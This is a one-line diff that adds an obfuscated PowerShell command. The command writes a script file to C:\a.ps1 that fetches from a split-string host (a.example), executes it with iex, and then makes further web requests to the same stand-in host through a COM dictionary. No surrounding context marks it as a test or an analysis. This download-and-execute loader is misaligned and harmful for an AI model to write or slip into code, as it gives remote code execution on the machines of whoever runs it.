@@ -1,0 +1,1 @@
+$f=New-Object -ComObject Scripting.FileSystemObject; $t=$f.CreateTextFile('C:\a.ps1'); $t.Write('iwr http://a.exa'+'mple/8'); $t.Close(); iex (gc C:\a.ps1 -Raw); $d=New-Object -ComObject Scripting.Dictionary; $d.Add('k','http://a.example/9'); iwr $d['k']; foreach ($k in $d) { iwr ('http://a.example/'+$k) }
